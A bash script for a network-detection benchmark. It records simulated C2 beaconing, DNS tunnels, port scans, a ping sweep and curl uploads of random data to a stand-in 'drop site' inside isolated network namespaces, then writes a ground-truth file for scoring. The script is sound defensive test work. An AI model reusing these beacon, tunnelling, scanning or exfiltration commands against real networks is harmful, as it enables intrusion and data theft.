#!/usr/bin/env bash
# record.sh — record the detection benchmark's real-traffic scenario: real clients (curl,
# Python sockets) in network namespaces, captured on the router, with a truth file in the
# format of gencap's "plants" (tests/detect/score.py judges both).
#
#   sudo tests/detect/record.sh OUT.pcap        (root: ip netns, tcpdump; ~2.5 minutes)
#
#   det-cli  10.77.1.10 .. .15  --  det-rtr  --  det-srv  203.0.113.50 (CDN), .51 (C2),
#                                                         .52 (drop site), .53 (web), .60 (scan
#                                                         target), 198.51.100.53 (DNS)
# Planted: an HTTP beacon (3 s, ±40 %), two beacons from one host behind the CDN address told
# apart by Host (4 s -20 %, 5 s ±20 %) among browsing of that address by two hosts, an
# iodine-style (base32, TXT) and a dnscat2-style (hex, CNAME/MX/TXT) tunnel, a connect scan
# (120 ports), a UDP scan (80 ports), a ping sweep (70 addresses), a 2 MB POST and a
# 1.6 MB chunked PUT to a drop site.  Benign: browsing and a 200 kB upload to the web server.
# Only addresses inside the namespaces are used; the namespaces are deleted on exit.
set -euo pipefail
OUTF=${1:?usage: record.sh OUT.pcap}
for t in python3 curl tcpdump ip ethtool; do
    command -v $t >/dev/null || { echo "record.sh: $t not found" >&2; exit 3; }
done
[ "$(id -u)" = 0 ] || { echo "record.sh: needs root (ip netns, tcpdump)" >&2; exit 3; }
HERE=$(cd "$(dirname "$0")" && pwd)
PY=$(python3 -c 'import sys; print(sys.executable)')
WORK=$(mktemp -d /tmp/detlab.XXXXXX)
NS_C=det-cli NS_R=det-rtr NS_S=det-srv
PIDS=()
cleanup() {
    set +e
    for p in "${PIDS[@]:-}" $(for ns in $NS_C $NS_R $NS_S; do ip netns pids $ns 2>/dev/null; done); do
        [ -n "$p" ] && kill "$p" 2>/dev/null
    done
    sleep 0.5
    for ns in $NS_C $NS_R $NS_S; do ip netns del $ns 2>/dev/null; done
    rm -rf "$WORK"
}
trap cleanup EXIT
say() { echo "[$(date +%T)] $*" >&2; }
inC() { ip netns exec $NS_C "$@"; }

for ns in $NS_C $NS_R $NS_S; do ip netns del $ns 2>/dev/null || true; ip netns add $ns; done
ip link add cli0 netns $NS_C type veth peer name rc0 netns $NS_R
ip link add srv0 netns $NS_S type veth peer name rs0 netns $NS_R
for ns in $NS_C $NS_R $NS_S; do
    ip netns exec $ns sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip netns exec $ns ip link set lo up
done
for i in 10 11 12 13 14 15; do inC ip addr add 10.77.1.$i/24 dev cli0; done
ip netns exec $NS_R ip addr add 10.77.1.1/24 dev rc0
ip netns exec $NS_R ip addr add 203.0.113.1/24 dev rs0
ip netns exec $NS_R ip addr add 198.51.100.1/24 dev rs0
for a in 50 51 52 53 60; do ip netns exec $NS_S ip addr add 203.0.113.$a/24 dev srv0; done
ip netns exec $NS_S ip addr add 198.51.100.53/24 dev srv0
inC ip link set cli0 up
ip netns exec $NS_R ip link set rc0 up
ip netns exec $NS_R ip link set rs0 up
ip netns exec $NS_S ip link set srv0 up
inC ip route add default via 10.77.1.1
ip netns exec $NS_S ip route add 10.77.1.0/24 via 203.0.113.1
ip netns exec $NS_S ip route add 203.0.113.0/24 dev srv0 2>/dev/null || true
ip netns exec $NS_R sysctl -qw net.ipv4.ip_forward=1
for pair in "$NS_C cli0" "$NS_R rc0" "$NS_R rs0" "$NS_S srv0"; do
    set -- $pair
    ip netns exec $1 ethtool -K $2 tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
done

say "servers"
cd "$HERE"
ip netns exec $NS_S "$PY" lab.py dns 198.51.100.53 & PIDS+=($!)
ip netns exec $NS_S "$PY" lab.py http & PIDS+=($!)
sleep 1
ip netns exec $NS_R tcpdump -Z root -U --immediate-mode -B 65536 -n -i rc0 -s 262144 \
    -w "$WORK/rec.pcap" 2>"$WORK/tcpdump.err" & CAP=$!
PIDS+=($CAP)
for _ in $(seq 50); do grep -qs "listening on" "$WORK/tcpdump.err" && break; sleep 0.1; done
sleep 0.5

say "traffic (~2.5 minutes)"
# every activity names its source address: curl --interface, Python sockets bound to it
# one process per activity, each from its own source address (SRC) with its own SEED
act() { local src=$1 seed=$2; shift 2
        ip netns exec $NS_C env SRC="10.77.1.$src" SEED="$seed" "$PY" lab.py "$@" & PIDS+=($!); }
act 11 11 beacon "http://c2.lab-bad.test/poll?id=7" 203.0.113.51 3 0.4 45 both; B1=$!
act 12 12 beacon "http://a.cdn-lab.test/poll?s=1" 203.0.113.50 4 0.2 32 down; B2=$!
act 12 13 beacon "http://b.cdn-lab.test/poll?s=2" 203.0.113.50 5 0.2 26 both; B3=$!
act 12 14 browse 203.0.113.50 img.cdn-lab.test js.cdn-lab.test video.cdn-lab.test -- 130; B4=$!
act 13 15 browse 203.0.113.50 img.cdn-lab.test fonts.cdn-lab.test -- 130; B5=$!
act 10 16 browse 203.0.113.53 www.lab-shop.test news.lab-shop.test -- 130; B6=$!
sleep 5
lab() { local src=$1 seed=$2; shift 2
        ip netns exec $NS_C env SRC="10.77.1.$src" SEED="$seed" "$PY" lab.py "$@"; }
lab 13 21 tunnel 198.51.100.53 t.lab-tunnel.test iodine 150 8
lab 13 22 tunnel 198.51.100.53 c.lab-cat.test dnscat2 120 8
lab 14 23 scan 203.0.113.60 1 120
lab 14 24 udpscan 203.0.113.60 2000 2079
lab 14 25 pingsweep 203.0.113 100 169
head -c 2000000 /dev/urandom > "$WORK/post.bin"
head -c 1600000 /dev/urandom > "$WORK/put.bin"
head -c 200000 /dev/urandom > "$WORK/small.bin"
inC curl -s -o /dev/null --interface 10.77.1.15 --resolve files.lab-drop.test:80:203.0.113.52 \
    --data-binary @"$WORK/post.bin" http://files.lab-drop.test/upload
sleep 2
inC curl -s -o /dev/null --interface 10.77.1.15 --resolve files.lab-drop.test:80:203.0.113.52 \
    -H "Transfer-Encoding: chunked" -T "$WORK/put.bin" http://files.lab-drop.test/put
inC curl -s -o /dev/null --interface 10.77.1.10 --resolve www.lab-shop.test:80:203.0.113.53 \
    --data-binary @"$WORK/small.bin" http://www.lab-shop.test/form
for p in $B1 $B2 $B3 $B4 $B5 $B6; do wait $p || true; done
sleep 1.5
kill -INT $CAP; wait $CAP 2>/dev/null || true
grep -q "^0 packets dropped by kernel" "$WORK/tcpdump.err" || {
    echo "record.sh: tcpdump dropped packets; re-run" >&2; cat "$WORK/tcpdump.err" >&2; exit 1; }
cp "$WORK/rec.pcap" "$OUTF"
"$PY" - "$OUTF" <<'EOF'
import json, sys
P = lambda kind, cls, det, hosts, name="", style="": {"kind": kind, "class": cls, "malicious": True,
    "detectors": det, "hosts": hosts, "name": name, "style": style}
plants = [
    P("beacon-http", "beacon", ["beaconing"], ["10.77.1.11", "203.0.113.51"], "c2.lab-bad.test", "3s-40%-both"),
    P("beacon-cdn", "beacon", ["beaconing"], ["10.77.1.12", "203.0.113.50"], "a.cdn-lab.test", "4s-20%-down"),
    P("beacon-cdn", "beacon", ["beaconing"], ["10.77.1.12", "203.0.113.50"], "b.cdn-lab.test", "5s-20%-both"),
    P("tunnel-iodine", "tunnel", ["dns_tunnel"], ["10.77.1.13"], "t.lab-tunnel.test", "base32-txt"),
    P("tunnel-dnscat2", "tunnel", ["dns_tunnel"], ["10.77.1.13"], "c.lab-cat.test", "hex"),
    P("scan-vertical", "scan", ["port_scan"], ["10.77.1.14", "203.0.113.60"], "", "connect-120"),
    P("scan-vertical", "scan", ["port_scan"], ["10.77.1.14", "203.0.113.60"], "", "udp-80"),
    P("sweep", "scan", ["host_sweep"], ["10.77.1.14"], "", "ping-70"),
    P("exfil-http", "exfil", ["exfiltration"], ["10.77.1.15", "203.0.113.52"], "files.lab-drop.test", "post+put-chunked"),
]
json.dump({"generator": "tests/detect/record.sh", "plants": plants},
          open(sys.argv[1] + ".truth.json", "w"), indent=1)
EOF
say "done: $OUTF ($(stat -c %s "$OUTF") bytes) and its truth file"
